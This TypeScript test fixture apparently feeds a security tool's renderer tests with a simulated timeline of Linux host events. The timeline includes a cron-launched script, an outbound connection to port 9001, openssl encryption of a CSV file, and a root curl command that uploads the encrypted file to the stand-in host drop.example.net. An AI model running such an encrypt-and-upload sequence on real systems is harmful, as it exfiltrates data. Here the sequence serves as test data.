/** A story with one act of every kind that Linux hosts know, for the renderers' tests. */
import type { Story } from '../../src/stories/story.ts';

export const LINUX_STORY: Story = {
  id: 'linux-story',
  title: 'Every kind of act',
  platform: 'linux',
  description: 'Every kind of act.',
  hosts: { box: { name: 'web1', addresses: ['10.1.1.9', 'fd00::9'], user: 'ann' } },
  start: '2026-01-05T20:09:55.035Z',
  steps: [
    {
      at: '0s',
      process: {
        as: 'script',
        parent: 'cron',
        session: '0x2b',
        user: 'ann',
        image: '/usr/bin/bash',
        arguments: ['/bin/bash', './go.sh', 'a b', '', 'ünï"x'],
        script: '/home/ann/go.sh',
        cwd: '/home/ann',
      },
    },
    { at: '1s', process: { as: 'sub', parent: 'script', image: '/usr/bin/bash', forked: true } },
    { at: '1.2s', connect: { process: 'sub', to: '203.0.113.9', port: 9001 } },
    {
      at: '1.5s',
      process: {
        as: 'openssl',
        replaces: 'sub',
        image: '/usr/bin/openssl',
        arguments: ['openssl', 'enc', '-aes-256-cbc', '-k', "it's", '-in', 'a.csv', '-out', '/tmp/a.enc'],
      },
    },
    { at: '2s', file: { process: 'openssl', path: '/tmp/a.enc' } },
    { at: '2.5s', end: { process: 'openssl' } },
    { at: '3s', process: { as: 'sudo', parent: 'script', image: '/usr/bin/sudo', user: 'root' } },
    {
      at: '3.1s',
      process: {
        as: 'curl',
        parent: 'sudo',
        image: '/usr/bin/curl',
        arguments: ['curl', '-T', '/tmp/a.enc', 'https://drop.example.net/', 'x'.repeat(20_000)],
      },
    },
    { at: '3.2s', dns: { process: 'curl', name: 'drop.example.net', addresses: ['2001:db8::7'] } },
    {
      at: '3.3s',
      connect: {
        process: 'curl',
        to: '2001:db8::7',
        port: 443,
        service: 'tls',
        serverName: 'drop.example.net',
        bytesOut: 50_000,
        bytesIn: 900,
      },
    },
    { at: '5s', end: { process: 'curl' } },
  ],
  expect: {},
};
